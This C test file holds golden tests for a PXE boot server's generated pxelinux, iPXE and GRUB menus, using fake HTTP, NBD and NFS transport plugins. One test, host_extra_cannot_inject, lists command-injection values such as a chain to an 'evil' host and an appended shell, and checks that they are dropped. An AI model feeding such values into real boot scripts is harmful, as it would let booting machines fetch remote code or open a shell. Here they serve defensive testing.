/* SPDX-License-Identifier: MIT */
/*
 * Golden tests of the generated menus (core/menu.c): pxelinux, iPXE and GRUB
 * for several combinations of boot methods, images, host profiles and menu
 * settings.  The http, nbd and nfs methods are fake transport records, the
 * images' kind a fake image-kind record shaped like the archiso plugin
 * (titles, parameters per transport, checks), and zz-rescue and memtest
 * version-1 style methods with entries of their own; all driven through the
 * core's own menu_collect/menu_render.
 *
 * Goldens: tests/images/golden/<case>.<format>.  PXE_UPDATE_GOLDEN=1 rewrites
 * them; otherwise a mismatch fails and leaves the output in <case>.<format>.out
 * in the current directory.
 */
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "tap.h"

#include "core.h"
#include "log.h"
#include "menu.h"

struct fake {
    const char *name;   /* method */
    const char *title;  /* "Arch Linux %s (HTTP)" */
    const char *cmd;    /* the method's kernel parameters */
    const char *refuse; /* cmdline_check refuses a cmdline holding this, or NULL */
    const char *help;
    const char *kernel, *initrd; /* the entry's own, or NULL for the image's */
};

/* tmpl with its "%s" replaced by val. */
static void subst(const char *tmpl, const char *val, char *out, size_t n)
{
    const char *p = strstr(tmpl, "%s");

    if (!p)
        snprintf(out, n, "%s", tmpl);
    else
        snprintf(out, n, "%.*s%s%s", (int)(p - tmpl), tmpl, val, p + 2);
}

static int fake_entries(void *state, const struct pxe_boot_ctx *ctx, struct pxe_menu *menu)
{
    const struct fake *f = state;
    char title[128], id[32];
    struct pxe_menu_entry e = {._struct_size = sizeof(e),
                               .id = id,
                               .title = title,
                               .help = f->help,
                               .kernel = f->kernel,
                               .initrd = f->initrd};

    subst(f->title, ctx->image->arch, title, sizeof(title));
    snprintf(id, sizeof(id), "%s", f->name);
    return menu_add(menu, &e);
}

static struct fake nbd;
static struct image img_iso, img_old;

/* What the archiso kind would have found in each image. */
struct facts {
    const char *label, *uuid;
    int cms_sig;
};
static struct facts facts_iso, facts_old;

static const struct facts *facts_of(const struct pxe_image *img)
{
    return img == &img_iso.pub ? &facts_iso : &facts_old;
}

static int fake_cmdline(void *state, const struct pxe_boot_ctx *ctx, struct pxe_buf *out)
{
    const struct fake *f = state;
    const struct facts *fa = facts_of(ctx->image);
    char cmd[512];

    subst(f->cmd, ctx->image->name, cmd, sizeof(cmd));
    if (f == &nbd) /* as the archiso kind over NBD: the block device to search for */
        return buf_append(out, "%s %s=%s", cmd, fa->uuid ? "archisosearchuuid" : "archisolabel",
                          fa->uuid ? fa->uuid : fa->label);
    return buf_append(out, "%s", cmd);
}

static int fake_check(void *state, const struct pxe_boot_ctx *ctx, const char *cmdline,
                      struct pxe_buf *why)
{
    const struct fake *f = state;

    if (f->refuse && strstr(cmdline, f->refuse)) {
        buf_append(why, "%s cannot work with %s", f->name, f->refuse);
        return -22;
    }
    return 0;
}

static struct fake http = {"http",
                           "Arch Linux %s (HTTP)",
                           "archiso_http_srv=http://${pxeserver}/images/%s/",
                           "copytoram=n",
                           "Boot the live system; its root filesystem is copied to RAM over HTTP.",
                           NULL,
                           NULL};
static struct fake nbd = {"nbd",
                          "Arch Linux %s (NBD)",
                          "archiso_nbd_srv=${pxeserver} archiso_nbd_name=%s",
                          NULL,
                          NULL,
                          NULL,
                          NULL};
static struct fake nfs = {"nfs",
                          "Arch Linux %s (NFS)",
                          "archiso_nfs_srv=${pxeserver}:/run/pxecore/%s archiso_nfs_opt=v3,tcp",
                          NULL,
                          NULL,
                          NULL,
                          NULL};
static struct fake thirdparty = {
    "zz-rescue", "Rescue shell on %s (third party)", "rescue=1 image=%s",
    NULL,        "A method no core change knows.",   NULL,
    NULL};

static struct fake memtest = {"memtest", "Memory test (memtest86+)", "", NULL,
                              NULL,      "boot/memtest86+x64.bin",   ""};

static struct pxe_core plugins[5], kind;
static struct core core;

/* ---- the fake transports and the fake image kind ---- */

static struct fake *fake_of(const struct pxe_transport *tr)
{
    struct pxe_core *p = core_plugin_find(&core, tr->method);

    return p ? p->state : NULL;
}

static int fake_transport(void *state, const struct pxe_boot_ctx *ctx, struct pxe_transport *tr,
                          struct pxe_buf *why)
{
    const struct fake *f = state;

    snprintf(tr->scheme, sizeof(tr->scheme), "%s", f->name);
    snprintf(tr->server, sizeof(tr->server), "%s", ctx->server_ip);
    return 0;
}

static int kind_entries(void *state, const struct pxe_boot_ctx *ctx,
                        const struct pxe_transport *tr, struct pxe_menu *menu)
{
    return tr ? fake_entries(fake_of(tr), ctx, menu) : 0;
}

static int kind_cmdline(void *state, const struct pxe_boot_ctx *ctx,
                        const struct pxe_transport *tr, struct pxe_buf *out)
{
    if (tr)
        return fake_cmdline(fake_of(tr), ctx, out);
    if (ctx->entry_id)
        return 0;
    /* as the archiso kind: archisobasedir, cms_verify=y or checksum=y, ip=dhcp */
    return buf_append(out, "archisobasedir=arch %s%s",
                      facts_of(ctx->image)->cms_sig ? "cms_verify=y" : "checksum=y",
                      ctx->loader_sets_ip ? "" : " ip=dhcp");
}

static int kind_check(void *state, const struct pxe_boot_ctx *ctx, const struct pxe_transport *tr,
                      const char *cmdline, struct pxe_buf *why)
{
    return tr ? fake_check(fake_of(tr), ctx, cmdline, why) : 0;
}

static void setup_plugin(struct pxe_core *p, struct fake *f, int enabled, struct pxe_core *next)
{
    memset(p, 0, sizeof(*p));
    p->desc.name = f->name;
    if (f->kernel || f == &thirdparty) { /* entries of its own */
        p->desc.caps = PXE_CAP_MENU | PXE_CAP_CMDLINE;
        p->desc.menu_entries = fake_entries;
        p->desc.cmdline = fake_cmdline;
        p->desc.cmdline_check = fake_check;
    } else {
        p->desc.caps = PXE_CAP_TRANSPORT;
        p->desc.transport = fake_transport;
    }
    p->state = f;
    p->enabled = p->loaded = p->started = 1;
    p->method_enabled = enabled;
    p->ctx = &core;
    p->next = next;
}

static void setup_image(struct image *img, const char *name, const char *label, const char *uuid,
                        const char *kernel, const char *initrd)
{
    struct facts *fa = img == &img_iso ? &facts_iso : &facts_old;
    static char prefixes[2][64];
    char *prefix = prefixes[img == &img_old];

    memset(img, 0, sizeof(*img));
    img->dirfd = img->isofd = -1;
    img->pub._struct_size = sizeof(img->pub);
    img->pub.name = name;
    img->pub.kind = "archiso";
    img->pub.arch = "x86_64";
    img->kind_plugin = &kind;
    fa->label = label;
    fa->uuid = uuid;
    img->pub.kernel = kernel;
    img->pub.initrd = initrd;
    snprintf(prefix, 64, "images/%s/", name);
    img->pub.prefix = prefix;
    /* as a current ISO has them: cms_verify=y; the old one only checksum=y */
    fa->cms_sig = img == &img_iso;
}

/* Methods on (a string of letters h n f t), settings reset to the core's defaults. */
static void reset(const char *methods)
{
    memset(&core, 0, sizeof(core));
    memset(&kind, 0, sizeof(kind));
    kind.desc.name = "archiso";
    kind.desc.caps = PXE_CAP_KIND;
    kind.desc.kind_entries = kind_entries;
    kind.desc.kind_cmdline = kind_cmdline;
    kind.desc.kind_cmdline_check = kind_check;
    kind.loaded = kind.started = 1;
    kind.ctx = &core;
    setup_plugin(&plugins[4], &memtest, strchr(methods, 'm') != NULL, NULL);
    setup_plugin(&plugins[3], &thirdparty, strchr(methods, 't') != NULL, &plugins[4]);
    setup_plugin(&plugins[2], &nfs, strchr(methods, 'f') != NULL, &plugins[3]);
    setup_plugin(&plugins[1], &nbd, strchr(methods, 'n') != NULL, &plugins[2]);
    setup_plugin(&plugins[0], &http, strchr(methods, 'h') != NULL, &plugins[1]);
    core.plugins = &plugins[0];
    setup_image(&img_iso, "archiso", "ARCH_202411", "2024-11-01-10-20-30-00",
                "arch/boot/x86_64/vmlinuz-linux", "arch/boot/x86_64/initramfs-linux.img");
    setup_image(&img_old, "old", "ARCH_201901", NULL, "arch/boot/x86_64/vmlinuz",
                "arch/boot/x86_64/archiso.img");
    core.images[0] = &img_iso;
    core.n_images = 1;
    core.menu.title = "pxecore";
    core.menu.timeout = 5000000;
    core.menu.ui = "menu.c32";
    core.menu.sysappend = 3;
    core.menu.kernel_http = 1;
    core.menu.local_entry = 1;
    snprintf(core.services[0].name, sizeof(core.services[0].name), "http");
    core.services[0].port = 80;
    snprintf(core.services[1].name, sizeof(core.services[1].name), "tftp");
    core.services[1].port = 69;
}

static char *slurp(const char *path)
{
    FILE *f = fopen(path, "rb");
    char *s;
    long n;

    if (!f)
        return NULL;
    fseek(f, 0, SEEK_END);
    n = ftell(f);
    fseek(f, 0, SEEK_SET);
    s = calloc(1, (size_t)n + 1);
    if (s && fread(s, 1, (size_t)n, f) != (size_t)n) {
        free(s);
        s = NULL;
    }
    fclose(f);
    return s;
}

static void spit(const char *path, const char *text)
{
    FILE *f = fopen(path, "wb");

    if (f) {
        fputs(text, f);
        fclose(f);
    }
}

/* Renders the three formats and compares them with the goldens of case name. */
static void golden(const char *name, const char *mac)
{
    static const char *const formats[] = {"pxelinux", "ipxe", "grub"};
    static const char *const ext[] = {"pxelinux", "ipxe", "grub.cfg"};

    for (int i = 0; i < 3; i++) {
        char path[1024], *text = NULL, *want;
        int r = menu_render(&core, formats[i], "192.0.2.1", mac, &text);

        EXPECT_EQ_INT(r, 0);
        if (r < 0)
            continue;
        snprintf(path, sizeof(path), "%s/%s.%s", GOLDEN_DIR, name, ext[i]);
        if (getenv("PXE_UPDATE_GOLDEN")) {
            spit(path, text);
        } else {
            want = slurp(path);
            if (!want || strcmp(want, text) != 0) {
                char out[512];

                snprintf(out, sizeof(out), "%s.%s.out", name, ext[i]);
                spit(out, text);
                printf("# %s differs from the golden; actual output in %s\n", path, out);
                EXPECT(0);
            }
            free(want);
        }
        free(text);
    }
}

TEST(http_only)
{
    reset("h");
    golden("http", NULL);
}

TEST(all_methods_two_images)
{
    reset("hnf");
    core.images[1] = &img_old;
    core.n_images = 2;
    core.services[0].port = 8080;
    core.menu.serial = "0 115200";
    core.menu.console = "ttyS0,115200";
    core.menu.ifnames0 = 1;
    core.menu.default_entry = "old-nbd";
    golden("all", NULL);
}

TEST(tftp_only_no_ui_immediate)
{
    reset("nf");
    core.services[0].name[0] = '\0'; /* no http service: kernels over TFTP */
    core.services[0].port = 0;
    core.menu.ui = "";
    core.menu.timeout = 0;
    core.menu.sysappend = 2;
    core.menu.local_entry = 0;
    golden("tftp", NULL);
}

/* GRUB off port 80: TFTP when it runs, else the (http,server:port) form. */
TEST(grub_http_port)
{
    char *text = NULL;

    reset("h");
    core.services[0].port = 8080;
    EXPECT_EQ_INT(menu_render(&core, "grub", "192.0.2.1", NULL, &text), 0);
    EXPECT(text && strstr(text, "  linux (tftp,192.0.2.1)/images/archiso/") != NULL);
    free(text);
    core.services[1].name[0] = '\0';
    core.services[1].port = 0;
    EXPECT_EQ_INT(menu_render(&core, "grub", "192.0.2.1", NULL, &text), 0);
    EXPECT(text && strstr(text, "  linux (http,192.0.2.1:8080)/images/archiso/") != NULL);
    free(text);
    core.services[0].port = 80;
    EXPECT_EQ_INT(menu_render(&core, "grub", "192.0.2.1", NULL, &text), 0);
    EXPECT(text && strstr(text, "  linux (http,192.0.2.1)/images/archiso/") != NULL);
    free(text);
}

/* IPv6 server addresses are bracketed in URLs and GRUB device names. */
TEST(ipv6_literals)
{
    char *text = NULL;

    reset("h");
    core.services[0].port = 8080;
    EXPECT_EQ_INT(menu_render(&core, "grub", "2001:db8::1", NULL, &text), 0);
    EXPECT(text && strstr(text, "  linux (tftp,[2001:db8::1])/images/archiso/") != NULL);
    free(text);
    EXPECT_EQ_INT(menu_render(&core, "ipxe", "2001:db8::1", NULL, &text), 0);
    EXPECT(text && strstr(text, "kernel http://[2001:db8::1]:8080/images/archiso/") != NULL);
    free(text);
    core.services[1].name[0] = '\0';
    core.services[1].port = 0;
    EXPECT_EQ_INT(menu_render(&core, "grub", "2001:db8::1", NULL, &text), 0);
    EXPECT(text && strstr(text, "  linux (http,[2001:db8::1]:8080)/images/archiso/") != NULL);
    free(text);
}

TEST(host_profile)
{
    struct pxe_host h = {._struct_size = sizeof(h),
                         .mac = "52:54:00:12:34:56",
                         .method = "nbd",
                         .cmdline_extra = "quiet systemd.unit=multi-user.target"};

    reset("hnf");
    EXPECT_EQ_INT(core_host_set(&core, &h), 0);
    golden("host", "52:54:00:12:34:56");
    golden("host-unknown", "52:54:00:aa:bb:cc"); /* unknown MAC: the whole menu */
    core_hosts_free(&core);
}

TEST(host_local_boot)
{
    struct pxe_host h = {._struct_size = sizeof(h), .mac = "52:54:00:12:34:56", .local_boot = 1};

    reset("h");
    EXPECT_EQ_INT(core_host_set(&core, &h), 0);
    golden("local", "52:54:00:12:34:56");
    core_hosts_free(&core);
}

TEST(no_method_enabled)
{
    reset("");
    golden("none", NULL);
}

TEST(third_party_method)
{
    reset("ht");
    golden("thirdparty", NULL);
}

TEST(own_kernel_entry)
{
    struct pxe_host h = {
        ._struct_size = sizeof(h), .mac = "52:54:00:12:34:56", .cmdline_extra = "onepass"};

    reset("nm");
    core.menu.ifnames0 = 1;
    core.menu.console = "ttyS0,115200";
    EXPECT_EQ_INT(core_host_set(&core, &h), 0);
    golden("ownkernel", "52:54:00:12:34:56");
    core_hosts_free(&core);
}

/* Switching a method (what the REST API does) changes all three menus at the next request. */
TEST(method_switch_changes_every_menu)
{
    static const char *const formats[] = {"pxelinux", "ipxe", "grub"};
    static const char *const marks[] = {"LABEL archiso-http", "item archiso-http",
                                        "--id archiso-http"};

    reset("hn");
    for (int round = 0; round < 3; round++) {
        int on = round != 1;

        if (round > 0)
            EXPECT_EQ_INT(core_method_set(&core, "http", on), 0);
        for (int i = 0; i < 3; i++) {
            char *text = NULL;

            EXPECT_EQ_INT(menu_render(&core, formats[i], "192.0.2.1", NULL, &text), 0);
            EXPECT(text && (strstr(text, marks[i]) != NULL) == on);
            EXPECT(text && strstr(text, "archiso-nbd") != NULL);
            free(text);
        }
    }
    EXPECT_EQ_INT(core_method_set(&core, "nope", 0), -ENOENT);
}

TEST(conflict_names_both_sides)
{
    struct pxe_menu *m = calloc(1, sizeof(*m));

    reset("hn");
    core.menu.copytoram = "n";
    golden("conflict", NULL);
    EXPECT_EQ_INT(menu_collect(&core, "ipxe", "192.0.2.1", NULL, m), 0);
    EXPECT_EQ_INT(m->n, 1);
    EXPECT_EQ_STR(m->items[0].method, "nbd");
    EXPECT_EQ_INT(m->n_refused, 1);
    EXPECT(m->n_refused == 1 &&
           strstr(m->refused[0], "menu.copytoram=n conflicts with the http method: ") != NULL);
    if (m->n_refused)
        printf("# %s\n", m->refused[0]);
    menu_free_items(m);
    free(m);
}

TEST(conflict_from_host_extra)
{
    struct pxe_host h = {
        ._struct_size = sizeof(h), .mac = "52:54:00:12:34:56", .cmdline_extra = "copytoram=n"};
    struct pxe_menu *m = calloc(1, sizeof(*m));

    reset("h");
    EXPECT_EQ_INT(core_host_set(&core, &h), 0);
    EXPECT_EQ_INT(menu_collect(&core, "grub", "192.0.2.1", "52:54:00:12:34:56", m), 0);
    EXPECT_EQ_INT(m->n, 0);
    EXPECT(m->n_refused == 1 &&
           strstr(m->refused[0], "the cmdline_extra \"copytoram=n\" of host 52:54:00:12:34:56 "
                                 "conflicts with the http method") != NULL);
    menu_free_items(m);
    free(m);
    core_hosts_free(&core);
}

TEST(method_refuses_itself)
{
    struct pxe_menu *m = calloc(1, sizeof(*m));
    struct fake self = http;

    reset("h");
    self.refuse = "archiso_http_srv";
    plugins[0].state = &self;
    EXPECT_EQ_INT(menu_collect(&core, "pxelinux", "192.0.2.1", NULL, m), 0);
    EXPECT_EQ_INT(m->n, 0);
    EXPECT(m->n_refused == 1 &&
           strstr(m->refused[0], "the http method rejects its own command line") != NULL);
    menu_free_items(m);
    free(m);
}

/* A host extra from the API must not chain commands into the iPXE script. */
TEST(host_extra_cannot_inject)
{
    static const char *const bad[] = {"quiet || shell", "a && chain http://x/evil", "say \"hi\"",
                                      "line\nbreak", NULL};

    for (int i = 0; bad[i]; i++) {
        struct pxe_host h = {
            ._struct_size = sizeof(h), .mac = "52:54:00:12:34:56", .cmdline_extra = bad[i]};
        struct pxe_menu *m = calloc(1, sizeof(*m));

        reset("n");
        EXPECT_EQ_INT(core_host_set(&core, &h), 0);
        EXPECT_EQ_INT(menu_collect(&core, "ipxe", "192.0.2.1", "52:54:00:12:34:56", m), 0);
        EXPECT_EQ_INT(m->n, 0);
        EXPECT(m->n_refused == 1 && strstr(m->refused[0], "dropped") != NULL);
        menu_free_items(m);
        free(m);
        core_hosts_free(&core);
    }
}

TEST(method_params_win_over_image_params)
{
    struct pxe_menu *m = calloc(1, sizeof(*m));
    struct fake own = nbd;

    reset("n");
    own.cmd = "archisobasedir=custom archisolabel=MINE ip=10.0.0.2::10.0.0.1:255.255.255.0";
    plugins[1].state = &own;
    EXPECT_EQ_INT(menu_collect(&core, "ipxe", "192.0.2.1", NULL, m), 0);
    EXPECT_EQ_INT(m->n, 1);
    if (m->n)
        EXPECT_EQ_STR(
            m->items[0].cmdline,
            "archisobasedir=custom archisolabel=MINE ip=10.0.0.2::10.0.0.1:255.255.255.0 "
            "cms_verify=y");
    menu_free_items(m);
    free(m);
}

int main(void)
{
    log_setup(0, 3);
    RUN(http_only);
    RUN(all_methods_two_images);
    RUN(tftp_only_no_ui_immediate);
    RUN(grub_http_port);
    RUN(ipv6_literals);
    RUN(host_profile);
    RUN(host_local_boot);
    RUN(no_method_enabled);
    RUN(third_party_method);
    RUN(own_kernel_entry);
    RUN(method_switch_changes_every_menu);
    RUN(conflict_names_both_sides);
    RUN(conflict_from_host_extra);
    RUN(method_refuses_itself);
    RUN(host_extra_cannot_inject);
    RUN(method_params_win_over_image_params);
    return tap_done();
}
